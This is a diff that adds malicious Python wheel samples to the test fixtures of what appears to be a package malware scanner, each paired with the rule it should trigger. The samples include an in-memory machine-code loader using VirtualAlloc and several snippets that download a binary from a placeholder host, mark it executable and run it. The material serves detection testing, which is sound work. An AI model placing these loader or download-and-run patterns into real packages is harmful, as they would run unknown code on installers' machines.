@@ -7,6 +7,27 @@ const HEAD =
 export const samples: Samples = {
   malicious: [
     {
+      name: 'Python: machine code in memory',
+      files: wheel(
+        'import ctypes\ndef load(code):\n    at = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)\n    ctypes.windll.kernel32.RtlMoveMemory(at, code, len(code))\n',
+      ),
+      expected: [{ rule: 'machine-code', file: 'own/__init__.py', line: 4, severity: 'high' }],
+    },
+    {
+      name: 'Python: a function that starts what it stored in a temporary folder',
+      files: wheel(
+        "import os, requests, subprocess\ndef init():\n    open('/tmp/.own', 'wb').write(requests.get('https://files.weir.test/own').content)\n    os.chmod('/tmp/.own', 0o755)\n    subprocess.Popen(['/tmp/.own'])\n",
+      ),
+      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 5, severity: 'high' }],
+    },
+    {
+      name: 'Python: a library that starts a program from a bare address',
+      files: wheel(
+        'import os, requests\ndef get(url):\n    with open("tool", "wb") as out:\n        out.write(requests.get("http://203.0.113.7/tool").content)\n    os.system("chmod +x tool")\n    os.system("./tool &")\n    return requests.get(url)\n',
+      ),
+      expected: [{ rule: 'download-and-run', file: 'own/__init__.py', line: 5, severity: 'high' }],
+    },
+    {
       name: 'Python: a program is fetched and started when the module is loaded',
       files: wheel(
         'import requests, os\nopen("s.exe", "wb").write(requests.get("https://dl.weir.test/s.exe").content)\nos.system("s.exe")\n',
